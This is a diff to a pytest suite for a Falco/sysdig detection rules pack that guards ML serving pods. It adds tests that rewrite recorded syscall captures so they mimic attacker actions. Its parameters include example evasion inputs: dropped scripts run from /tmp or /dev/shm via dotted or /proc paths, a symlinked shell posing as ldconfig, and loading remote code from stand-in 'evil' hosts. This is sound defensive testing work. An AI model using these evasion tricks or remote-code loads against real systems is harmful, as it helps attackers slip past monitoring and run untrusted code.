@@ -11,6 +11,7 @@ followed). Where that matters, the rewritten execve gives the path Falco would r
 
 from __future__ import annotations
 
+import re
 import struct
 from collections.abc import Callable, Mapping
 from dataclasses import dataclass
@@ -26,7 +27,7 @@ from responder.rulespack.sysdig import Sysdig
 from responder.rulespack.sysdig_compat import to_sysdig
 
 from . import scapedit as se
-from .conftest import CAPTURES, PACK, SCOPE_OVERRIDE
+from .conftest import CAPTURES, PACK, README, SCOPE_OVERRIDE
 
 pytestmark = pytest.mark.timeout(120)
 
@@ -39,7 +40,7 @@ CREDENTIALS = "Credential access in serving pod"
 FIELDS = ["evt.num", "evt.type", "proc.name", "proc.exe", "proc.exepath", "proc.args", "fd.name", "fd.sip"]
 EXECVE = "evt.type = execve and evt.dir = <"
 
-Replacements = Mapping[int, list[bytes]]
+Replacements = Mapping[int, list[bytes] | se.Retyped]
 
 
 def _events(capture: str) -> list[se.Event]:
@@ -71,12 +72,17 @@ class Recorded:
         return f"thread.tid = {self.exec_events()[1].tid}"
 
     def exec(
-        self, *, path: str | None = None, argv: list[str] | None = None, name: str | None = None
+        self,
+        *,
+        path: str | None = None,
+        argv: list[str] | None = None,
+        name: str | None = None,
+        cwd: str | None = None,
     ) -> Replacements:
         """Started otherwise: the path given to execve (what sysdig 0.29 reports as proc.exepath),
-        argv (argv[0] is proc.exe) and the process name."""
+        argv (argv[0] is proc.exe), the process name and the working directory."""
         enter, exit_ = self.exec_events()
-        replacements: dict[int, list[bytes]] = {}
+        replacements: dict[int, list[bytes] | se.Retyped] = {}
         if path is not None:
             replacements[enter.index] = se.replaced(enter, {se.EXECVE_FILENAME: se.strings(path)})
         changes: dict[int, bytes] = {}
@@ -85,6 +91,17 @@ class Recorded:
             changes[se.EXECVE_ARGS] = se.strings(*argv[1:])
         if name is not None:
             changes[se.EXECVE_COMM] = se.strings(name)
+        if cwd is not None:
+            # libsinsp keeps the working directory from the parent (the captures' clones record
+            # none) and from chdir: the exit event the thread made just before its execve (a
+            # signal-mask call) becomes a successful chdir.
+            before = [
+                e
+                for e in _events(self.capture)[: enter.index]
+                if e.tid == exit_.tid and e.type % 2 == 1 and e.type not in se.CLONE_EXITS
+            ]
+            chdir = se.Retyped(se.CHDIR_EXIT, [struct.pack("<q", 0), se.strings(cwd)])
+            replacements[before[-1].index] = chdir
         replacements[exit_.index] = se.replaced(exit_, changes)
         return replacements
 
@@ -1095,7 +1112,9 @@ def test_icmp_and_raw_sends_are_egress(derive: Derive, sock_type: int, protocol:
     ("address", "port", "fires"),
     [
         ("8.8.8.8", 80, False),  # vLLM's get_ip at every start
-        ("8.8.8.8", 53, False),  # Ray's node address without --node-ip-address
+        # Ray's node address without --node-ip-address: not excepted, a write(2) on the connected
+        # socket is not seen (a DNS tunnel through a public resolver; review-rules finding 6).
+        ("8.8.8.8", 53, True),
         ("8.8.4.4", 80, True),
         ("8.8.8.8", 443, True),
     ],
@@ -1429,3 +1448,344 @@ def test_a_system_script_is_excepted_only_under_the_images_sh(
     [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
     assert (event["proc.name"], event["proc.exepath"]) == (name, path)
     assert bool(derived.fired(SHELL, f"{EXECVE} and {SH_A1.thread}")) is fires
+
+
+# -- Review of the rules pack (notes/review-rules.md) ---------------------------------------------
+# Each finding on the nearest recorded action, rewritten the way the attacker changes it.
+
+TRITON_LOCALIZED = "/tmp/folderAbC123"
+
+
+# Finding 1: Triton's model-load API with file overrides writes the request's model into
+# /tmp/folderXXXXXX and starts the Python backend stub on it.
+
+
+@pytest.mark.parametrize(
+    ("model_dir", "fires"),
+    [
+        ("/models/resnet", False),  # the model repository
+        ("/mnt/models/resnet", False),  # KServe's
+        ("/opt/ml/model/resnet", False),  # SageMaker's
+        (TRITON_LOCALIZED, True),  # a model sent with the load API
+        ("/tmp/evil", True),
+        ("/models/../tmp/folderAbC123", True),  # a model dir's name, then out of it
+        ("/models-evil/resnet", True),  # a name that only starts like a model dir
+    ],
+)
+def test_triton_stub_is_excepted_only_for_a_model_in_the_model_dirs(
+    derive: Derive, model_dir: str, fires: bool
+) -> None:
+    start = TRITON_START.replace("/models/resnet", model_dir)
+    derived = derive(
+        MV_D2.capture, _triton(parent="tritonserver", path="/usr/bin/bash", argv=["bash", "-c", start])
+    )
+    [event] = derived.events(f"{EXECVE} and {MV_D2.thread}")
+    assert event["proc.args"] == f"-c {start}"
+    assert bool(derived.fired(SHELL, f"{EXECVE} and {MV_D2.thread}")) is fires
+
+
+def test_the_triton_stub_exception_spells_out_every_model_dir() -> None:
+    """Like the /proc mirror: the stub's model argument is pinned to each default model dir."""
+    ruleset = load_paths([str(PACK)])
+    macro = ruleset.macros["serving_guard_triton_python_stub_launch"]
+    assert macro.ast is not None
+    pinned = {
+        c.value.text.removeprefix(f"-c  exec {TRITON_STUB} ")
+        for c in checks(macro.ast)
+        if isinstance(c.value, Value) and c.value.text.startswith(f"-c  exec {TRITON_STUB} /")
+    }
+    assert pinned == {f"{d}/*" for d in ruleset.list_items["serving_guard_model_dirs"]}
+
+
+@pytest.mark.parametrize(
+    ("recorded", "opened", "exe", "name", "path", "fires"),
+    [
+        # tritonserver writes the request's files (d1's append, by tritonserver).
+        (
+            PYTHON_D1,
+            "/models/resnet/model.pt",
+            "/opt/tritonserver/bin/tritonserver",
+            "tritonserver",
+            f"{TRITON_LOCALIZED}/1/model.py",
+            True,
+        ),
+        (
+            PYTHON_D1,
+            "/models/resnet/model.pt",
+            "/opt/tritonserver/bin/tritonserver",
+            "tritonserver",
+            f"{TRITON_LOCALIZED}/config.pbtxt",
+            True,
+        ),
+        # The stub reads model.py (c1's read, by the stub; its name is cut at 15 characters).
+        (
+            PYTHON_C1,
+            "/tmp/evil/model.pt",
+            TRITON_STUB,
+            "triton_python_b",
+            f"{TRITON_LOCALIZED}/1/model.py",
+            True,
+        ),
+        # Not Triton, or not its localization directory.
+        (
+            PYTHON_C1,
+            "/tmp/evil/model.pt",
+            "/usr/bin/python3.11",
+            "python3",
+            f"{TRITON_LOCALIZED}/1/model.py",
+            False,
+        ),
+        (PYTHON_C1, "/tmp/evil/model.pt", TRITON_STUB, "triton_python_b", "/models/resnet/1/model.py", False),
+        (
+            PYTHON_C1,
+            "/tmp/evil/model.pt",
+            "/opt/tritonserver/bin/tritonserver",
+            "tritonserver",
+            "/tmp/folders.txt",
+            False,
+        ),
+    ],
+    ids=lambda v: v if isinstance(v, str) and len(v) < 40 else None,
+)
+def test_triton_opening_a_file_of_its_localization_dir_is_a_model_load(
+    derive: Derive, recorded: Recorded, opened: str, exe: str, name: str, path: str, fires: bool
+) -> None:
+    _, exit_ = recorded.exec_events()
+    argv = [exit_.text(se.EXECVE_EXE), *exit_.params[se.EXECVE_ARGS].rstrip(b"\0").decode().split("\0")]
+    replacements = dict(recorded.exec(path=exe, argv=argv, name=name))
+    replacements.update(_open_instead(recorded, opened, path))
+    derived = derive(recorded.capture, replacements)
+    assert bool(_opened(derived, recorded, MODEL_LOAD, path)) is fires
+
+
+# Finding 2: an open that truncates or creates without O_WRONLY (the kernel truncates on
+# O_RDONLY|O_TRUNC; evt.is_open_write is false for it).
+
+PPM_O_RDONLY, PPM_O_WRONLY, PPM_O_CREAT, PPM_O_APPEND, PPM_O_TRUNC, PPM_O_CLOEXEC = 1, 2, 4, 8, 256, 4096
+
+
+def _open_flags(recorded: Recorded, path: str, flags: int) -> Replacements:
+    """The recorded program opens ``path`` with ``flags`` (the openat pair)."""
+    _, exit_ = recorded.exec_events()
+    enter, exit_open = [
+        e
+        for e in se.find_events(_events(recorded.capture), (se.OPENAT_ENTER, se.OPENAT_EXIT), exit_.tid)
+        if e.text(se.OPENAT_ENTER_NAME if e.type == se.OPENAT_ENTER else se.OPENAT_EXIT_NAME) == path
+    ][:2]
+    packed = struct.pack("<I", flags)
+    return {
+        enter.index: se.replaced(enter, {se.OPENAT_ENTER_FLAGS: packed}),
+        exit_open.index: se.replaced(exit_open, {se.OPENAT_EXIT_FLAGS: packed}),
+    }
+
+
+@pytest.mark.parametrize(
+    ("flags", "shown", "fires"),
+    [
+        (
+            PPM_O_WRONLY | PPM_O_CREAT | PPM_O_APPEND | PPM_O_CLOEXEC,
+            "O_APPEND|O_CREAT|O_WRONLY|O_CLOEXEC",
+            True,
+        ),
+        (PPM_O_RDONLY | PPM_O_TRUNC | PPM_O_CLOEXEC, "O_TRUNC|O_RDONLY|O_CLOEXEC", True),  # empties the model
+        (PPM_O_RDONLY | PPM_O_CREAT | PPM_O_TRUNC, "O_TRUNC|O_CREAT|O_RDONLY", True),
+        (PPM_O_RDONLY | PPM_O_CREAT | PPM_O_CLOEXEC, "O_CREAT|O_RDONLY|O_CLOEXEC", True),  # creates a file
+        (PPM_O_RDONLY | PPM_O_CLOEXEC, "O_RDONLY|O_CLOEXEC", False),  # the server reading its model
+    ],
+    ids=lambda v: v if isinstance(v, str) else None,
+)
+def test_an_open_that_truncates_or_creates_a_model_file_is_tampering(
+    derive: Derive, flags: int, shown: str, fires: bool
+) -> None:
+    path = "/models/resnet/model.pt"
+    derived = derive(PYTHON_D1.capture, _open_flags(PYTHON_D1, path, flags))
+    condition = f'evt.type = openat and evt.dir = < and {PYTHON_D1.thread} and fd.name = "{path}"'
+    [event] = derived.sysdig.read_capture(
+        str(derived.path), condition, ["evt.arg.flags", "evt.is_open_write"]
+    )
+    assert event["evt.arg.flags"] == shown
+    assert bool(derived.fired(TAMPER, condition)) is fires
+
+
+# Finding 3: a dropped script run by a relative path from a writable working directory, or by a path
+# spelled with '.', '..', '//' or /proc segments.
+
+
+@pytest.mark.parametrize(
+    ("argv", "name", "cwd", "fires"),
+    [
+        (["python3", "x.py"], "python3", "/dev/shm", True),  # cd /dev/shm && python3 x.py
+        (["python3", "./x.py"], "python3", "/tmp/", True),
+        (["/usr/bin/python3", "./x.py"], "x.py", "/tmp/", True),  # ./x.py through its shebang
+        (["sh", "x.sh"], "sh", "/var/tmp", True),
+        (["python3", "/./tmp/x.py"], "python3", "/", True),
+        (["python3", "/usr/../tmp/x.py"], "python3", "/", True),
+        (["python3", "//tmp/x.py"], "python3", "/", True),
+        (["python3", "/proc/self/cwd/x.py"], "python3", "/tmp", True),
+        (["python3", "../tmp/x.py"], "python3", "/usr", True),
+        # A relative script elsewhere, options first, no script, the recordings' script directory.
+        (["python3", "serve.py", "--port", "8000"], "python3", "/app", False),
+        (["python3", "-u", "-m", "vllm.entrypoints.openai.api_server"], "python3", "/tmp", False),
+        (["python3"], "python3", "/tmp", False),
+        (["python3", "x.py"], "python3", "/tmp/sgscen/", False),
+        (["python3", "/app/serve.py", "--model-dir", "./models"], "python3", "/tmp", False),
+        (["busybox", "ls", "-l"], "busybox", "/tmp", False),
+    ],
+    ids=lambda v: " ".join(v) if isinstance(v, list) else v if isinstance(v, str) else None,
+)
+def test_a_script_run_by_a_relative_or_dotted_path_from_a_writable_dir_is_drift(
+    derive: Derive, argv: list[str], name: str, cwd: str, fires: bool
+) -> None:
+    path = {"sh": "/usr/bin/dash", "busybox": "/usr/bin/busybox"}.get(argv[0], "/usr/bin/python3.11")
+    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=argv, name=name, cwd=cwd))
+    [event] = derived.sysdig.read_capture(
+        str(derived.path), f"{EXECVE} and {DROPPED_G2.thread}", ["proc.cwd", "proc.args"]
+    )
+    assert event["proc.args"] == " ".join(argv[1:])
+    assert event["proc.cwd"].rstrip("/") == cwd.rstrip("/")
+    assert bool(derived.fired(DRIFT, f"{EXECVE} and {DROPPED_G2.thread}")) is fires
+
+
+# Finding 7: an interactive interpreter on a terminal (kubectl exec -it POD -- python3) starts no shell:
+# the shell rule reports a program on a terminal whose parent is not a shell, once per exec.
+
+SH_A4_PTY = Recorded("sg-a-shell.scap", "bash", "sh")  # sh -c "bash -c 'echo sgcap-a4'" on script's pty
+BASH_A4_PTY = Recorded("sg-a-shell.scap", "sgcap-a4", "bash")  # its child bash, on the pty
+
+
+@pytest.mark.parametrize(
+    ("recorded", "path", "argv", "fires"),
+    [
+        (SH_A4_PTY, "/usr/bin/python3.11", ["python3"], True),
+        (SH_A4_PTY, "/usr/bin/perl", ["perl", "-de0"], True),
+        (SH_A4_PTY, "/usr/bin/node", ["node"], True),
+        (SH_A4_PTY, "/usr/bin/bash", ["bash"], True),  # a shell, as before
+        # Started by a shell on the terminal: the shell was reported.
+        (BASH_A4_PTY, "/usr/bin/python3.11", ["python3"], False),
+    ],
+    ids=lambda v: " ".join(v) if isinstance(v, list) else None,
+)
+def test_a_program_on_a_terminal_is_a_shell_session(
+    derive: Derive, recorded: Recorded, path: str, argv: list[str], fires: bool
+) -> None:
+    derived = derive(recorded.capture, recorded.exec(path=path, argv=argv, name=Path(path).name))
+    [event] = derived.sysdig.read_capture(
+        str(derived.path), f"{EXECVE} and {recorded.thread}", ["proc.tty", "proc.name", "proc.args"]
+    )
+    assert event["proc.tty"] != 0
+    assert (event["proc.name"], event["proc.args"] or "") == (Path(path).name, " ".join(argv[1:]))
+    fired = [e["evt.num"] for e in derived.fired(SHELL, f"{EXECVE} and {recorded.thread}")]
+    assert len(fired) == (1 if fires else 0)  # one alert for the exec, or none
+    # No other rule reports it a second time.
+    assert derived.rules_fired(f"{EXECVE} and {recorded.thread}") == ({SHELL} if fires else set())
+
+
+def test_programs_without_a_terminal_are_not_shell_sessions(derive: Derive) -> None:
+    """Every recorded program started without a terminal that is no shell stays quiet under rule 3."""
+    derived = derive(SH_A1.capture, {})
+    fired = {e["proc.name"] for e in derived.fired(SHELL, EXECVE)}
+    assert fired == {"sh", "bash", "busybox"}  # a1-a4's shells (script itself has no terminal)
+
+
+# Finding 9: the ML download calls in one-liners, and the download CLIs.
+
+
+@pytest.mark.parametrize(
+    ("code", "fires"),
+    [
+        (
+            "from transformers import AutoModel; AutoModel.from_pretrained('evil/m', trust_remote_code=True)",
+            True,
+        ),
+        ("import torch; torch.hub.load('evil/repo', 'm', trust_repo=True)", True),
+        ("import torch; torch.hub.load_state_dict_from_url('https://evil.example/w.pth')", True),
+        ("import boto3; boto3.client('s3').download_file('b', 'k', '/tmp/m.pt')", True),
+        ("import botocore.session as s; s.get_session()", True),
+        ("import s3fs; s3fs.S3FileSystem().get('b/k', '/tmp/m')", True),
+        ("import gcsfs; gcsfs.GCSFileSystem().get('b/k', '/tmp/m')", True),
+        ("import fsspec; fsspec.open('s3://b/m.pt').open().read()", True),
+        ("from google.cloud import storage; storage.Client().bucket('b')", True),
+        ("from azure.storage.blob import BlobClient", True),
+        ("import aiohttp, asyncio", True),
+        ("import wget; wget.download('https://evil.example/m.pt')", True),
+        ("from modelscope import snapshot_download as d; d('evil/x')", True),
+        # One-liners that fetch nothing.
+        ("import torch; print(torch.cuda.is_available())", False),
+        ("import transformers; print(transformers.__version__)", False),
+    ],
+)
+def test_ml_download_calls_in_one_liners_are_downloads(derive: Derive, code: str, fires: bool) -> None:
+    argv = ["python3", "-c", code]
+    derived = derive(CURL_F2.capture, CURL_F2.exec(path="/usr/bin/python3.11", argv=argv, name="python3"))
+    assert derived.events(f"{EXECVE} and {CURL_F2.thread}")
+    assert bool(derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")) is fires
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["az", "storage", "blob", "download", "-c", "c", "-n", "m.pt", "-f", "/tmp/m.pt"],
+        ["s3cmd", "get", "s3://b/m.pt", "/tmp/m.pt"],
+        ["mc", "cp", "minio/b/m.pt", "/tmp/m.pt"],
+        ["kaggle", "models", "instances", "versions", "download", "evil/m"],
+        ["dvc", "pull"],
+        ["oras", "pull", "registry.example/evil:latest"],
+        ["skopeo", "copy", "docker://evil/x", "dir:/tmp/x"],
+        ["lftp", "-c", "get ftp://evil.example/x"],
+    ],
+    ids=" ".join,
+)
+def test_more_download_tools_are_downloads(derive: Derive, argv: list[str]) -> None:
+    derived = derive(CURL_F2.capture, CURL_F2.exec(path=f"/usr/local/bin/{argv[0]}", argv=argv, name=argv[0]))
+    [event] = derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")
+    assert event["proc.name"] == argv[0]
+
+
+# Finding 10: the system-script exception names the whole script path, not a prefix.
+
+
+@pytest.mark.parametrize(
+    ("argv", "name", "fires"),
+    [
+        (["/bin/sh", "/usr/sbin/ldconfig"], "ldconfig", False),
+        (["/bin/sh", "/sbin/ldconfig", "-p"], "ldconfig", False),
+        (["/bin/sh", "/usr/bin/which", "python3"], "which", False),
+        (["/bin/sh", "/bin/which"], "which", False),
+        # ln -s /bin/sh /tmp/ldconfig; /tmp/ldconfig /usr/sbin/ldconfig-x (a script written beside it)
+        (["/tmp/ldconfig", "/usr/sbin/ldconfig-x"], "ldconfig", True),
+        (["/tmp/ldconfig", "/sbin/ldconfig.d/x", "-p"], "ldconfig", True),
+        (["/tmp/which", "/usr/bin/whichever.sh"], "which", True),
+    ],
+)
+def test_the_system_script_exception_is_the_whole_script_path(
+    derive: Derive, argv: list[str], name: str, fires: bool
+) -> None:
+    derived = derive(SH_A1.capture, SH_A1.exec(path="/usr/bin/dash", argv=argv, name=name))
+    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
+    assert (event["proc.name"], event["proc.args"]) == (name, " ".join(argv[1:]))
+    assert bool(derived.fired(SHELL, f"{EXECVE} and {SH_A1.thread}")) is fires
+
+
+# Finding 4: GKE with Cloud DNS resolves through the metadata address; the README's recipe (replace
+# serving_guard_node_dns) quiets DNS to it and keeps its API alerting.
+
+
+@pytest.mark.parametrize(("proto", "port", "alerts"), [("udp", 53, False), ("tcp", 80, True)])
+def test_the_readme_gke_cloud_dns_recipe_allows_dns_to_the_metadata_server(
+    sysdig: Sysdig, tmp_path: Path, proto: str, port: int, alerts: bool
+) -> None:
+    readme = README.read_text(encoding="utf-8")
+    [recipe] = [
+        block
+        for block in re.findall(r"```yaml\n(.*?)```", readme, re.S)
+        if block.startswith("- macro: serving_guard_node_dns\n")
+    ]
+    tuning = tmp_path / "gke.yaml"
+    tuning.write_text(recipe, encoding="utf-8")
+    ruleset = load_paths([str(PACK), str(SCOPE_OVERRIDE), str(tuning)])
+    egress = to_sysdig(ruleset.expanded[EGRESS].ast).text
+    recorded, replacements = (PYTHON_E2, _udp_to) if proto == "udp" else (PYTHON_E1, _tcp_to)
+    path = tmp_path / recorded.capture
+    se.rewrite(CAPTURES / recorded.capture, path, replacements("169.254.169.254", port))
+    fired = sysdig.read_capture(str(path), f"({recorded.thread}) and ({egress})", FIELDS)
+    assert bool(fired) is alerts, fired
